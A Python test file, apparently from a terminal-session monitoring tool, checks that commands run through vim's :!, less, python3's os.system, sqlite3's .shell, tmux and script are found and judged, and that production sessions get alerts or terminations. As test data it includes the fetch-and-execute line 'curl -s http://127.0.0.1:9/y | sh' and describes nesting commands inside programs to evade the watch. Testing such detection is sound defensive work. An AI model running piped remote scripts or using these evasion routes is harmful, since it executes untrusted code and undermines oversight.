"""Real sessions that run programs with their own prompt (``python -m ssm_warden_local.recorder
prog_bash_programs prog_zsh_programs prog_bash_tmux``): ``vim``'s ``:!``, ``less``'s ``!``,
``python3``'s ``os.system``, ``sqlite3``'s ``.shell``, a real ``tmux`` server with two windows and
``script``'s inner shell. What ran comes from the programs (``strace`` of the shells they started
with ``-c`` and of what the REPLs read) and from the inner shells' history, never from the
extractor. In every input form, every command that ran is found, nothing else is judged, commands
run from a program are judged with medium confidence, and the programs that hide what runs are
flagged."""

from __future__ import annotations

from collections import Counter
from typing import Any

import pytest

from ssm_warden.models.actions import ActionKind, Mode
from ssm_warden.transcript.extract import Extracted
from ssm_warden.transcript.model import PROMPT_CHANGED
from ssm_warden_local import transcript_eval as te
from tests.unit.transcript.strictest_judging import judged_strictest

RECORDINGS = te.recordings(programs=True)
NAMES = [r.name for r in RECORDINGS]
SHELLS = ("bash", "zsh", "sh", "dash")


def _rec(name: str) -> te.Recording:
    return next(r for r in RECORDINGS if r.name == name)


def test_there_are_recordings_of_each_program_from_bash_and_zsh() -> None:
    by = {(r.shell, b) for r in RECORDINGS for b in r.ran_by}
    for program in ("vim", "less", "python", "sqlite3"):
        assert ("bash", program) in by and ("zsh", program) in by, program
    assert any("unwatchable:tmux" in r.expect_flags for r in RECORDINGS)
    assert all(len(r.ran_by) == len(r.ran) for r in RECORDINGS)


@pytest.mark.parametrize("form", te.FORMS)
@pytest.mark.parametrize("name", NAMES)
def test_every_command_run_is_found_none_made_up_and_hidden_programs_flagged(name: str, form: str) -> None:
    # Given a recorded session that runs programs, in this input form
    rec = _rec(name)
    # When its commands are extracted
    score = te.score(rec, te.extract_form(rec, form))
    # Then every command a shell or a program ran is found, none that did not run is judged
    assert score.missed == [], f"{name} ({form}) missed {score.missed}"
    assert score.never_ran == [], f"{name} ({form}) judged but never ran: {score.never_ran}"
    # And the programs that hide what runs in them are flagged
    assert score.flags_missing == [], f"{name} ({form}) did not flag {score.flags_missing}"


@pytest.mark.parametrize("form", te.FORMS)
@pytest.mark.parametrize("name", ["prog_bash_programs", "prog_zsh_programs"])
def test_commands_run_from_a_program_are_judged_as_run_from_it_with_medium_confidence(
    name: str, form: str
) -> None:
    # Given the commands vim, less, python3 and sqlite3 ran (strace)
    rec = _rec(name)
    expected = [(c, by) for c, by in zip(rec.ran, rec.ran_by, strict=True) if by not in SHELLS]
    extracted = te.extract_form(rec, form)
    found = Counter((c.text, c.how, c.confidence) for c in extracted.commands)
    # Then each is extracted as run from that program, of medium confidence (alert, never end),
    # as many times as it ran (``id`` from less's own screen and from git log's pager)
    for (command, program), times in Counter(expected).items():
        assert found[(command, f"run from {program}", "medium")] >= times, (command, program, found)
    # And a REPL's own prompt (``>>>``, ``sqlite>``) is never learned as the shell's, and once a
    # program has exited (psql that could not connect) the shell's commands are its own again
    assert PROMPT_CHANGED not in extracted.flags
    for command, by in zip(rec.ran, rec.ran_by, strict=True):
        if by in SHELLS:
            entries = [(c.how, c.confidence) for c in extracted.commands if command in c.texts]
            assert any(conf == "high" for _, conf in entries), (command, entries)
    for line in rec.read_by_programs:
        entries = [c for c in extracted.commands if c.text == line]
        assert all(c.confidence == "medium" for c in entries), (line, entries)


@pytest.mark.parametrize("form", te.FORMS)
def test_commands_typed_in_a_shell_inside_tmux_are_judged_as_the_inner_shells(form: str) -> None:
    # Given a real tmux server with two windows, commands typed in each
    rec = _rec("prog_bash_tmux")
    extracted = te.extract_form(rec, form)
    inside = [c for c in extracted.commands if "inside tmux" in c.how]
    texts = {c.text for c in inside}
    # Then every command typed in tmux is found, as typed inside it
    for command in ("id", "curl -s http://127.0.0.1:9/y | sh", "echo in-window-1", "echo back-in-window-0"):
        assert command in texts, (command, [(c.text, c.how) for c in extracted.commands])
    # And the first command after the inner shell's own prompt keeps its confidence (typing tmux
    # must not make a session alert-only); one joined from tmux's drawing is medium
    first = {c.text: c for c in reversed(inside)}
    assert first["id"].confidence == "high"
    assert first["curl -s http://127.0.0.1:9/y | sh"].confidence == "high"
    drawn = [c for c in inside if "drawn after an earlier prompt row" in c.how]
    assert drawn and all(c.confidence == "medium" for c in drawn)
    # And once tmux has exited, and in script's inner shell, the commands are the shell's again
    after = next(c for c in extracted.commands if c.text == "echo after-tmux")
    assert after.confidence == "high" and "tmux" not in after.how
    assert next(c for c in extracted.commands if c.text == "echo inside-script").confidence == "high"


def _terminations(extracted: Extracted) -> list[Any]:
    judged = judged_strictest(extracted)
    assert judged.finding_count >= 1
    return [a for a in judged.decisions.actions if a.kind is ActionKind.TERMINATE]


@pytest.mark.parametrize("form", te.FORMS)
@pytest.mark.parametrize("name", ["prog_bash_programs", "prog_zsh_programs"])
def test_curl_pipe_sh_from_a_program_on_prod_is_alerted_with_the_reason_never_terminated(
    name: str, form: str
) -> None:
    # Given `curl ... | sh` typed from vim's :! and python's os.system, on prod
    rec = _rec(name)
    extracted = te.extract_form(rec, form)
    outside = [c for c in extracted.commands if "curl" in c.text and c.confidence == "high"]
    assert outside == []  # every curl in these sessions was typed inside a program
    # When the live path judges the session
    actions = _terminations(extracted)
    # Then it is judged (a would-terminate), but in monitor mode only, saying why
    assert actions, "curl | sh from a program was not judged"
    for action in actions:
        assert action.mode is Mode.MONITOR, action
        assert "medium confidence" in str(action.model_dump())


@pytest.mark.parametrize("form", te.FORMS)
def test_curl_pipe_sh_typed_at_the_inner_shells_prompt_in_tmux_on_prod_is_terminated(form: str) -> None:
    # Given `curl ... | sh` typed at the prompt of the shell inside tmux, on prod
    extracted = te.extract_form(_rec("prog_bash_tmux"), form)
    # When the live path judges the session
    actions = _terminations(extracted)
    # Then the session is ended: entering tmux is no way around the command watch
    assert any(a.mode is Mode.ENFORCE for a in actions), actions
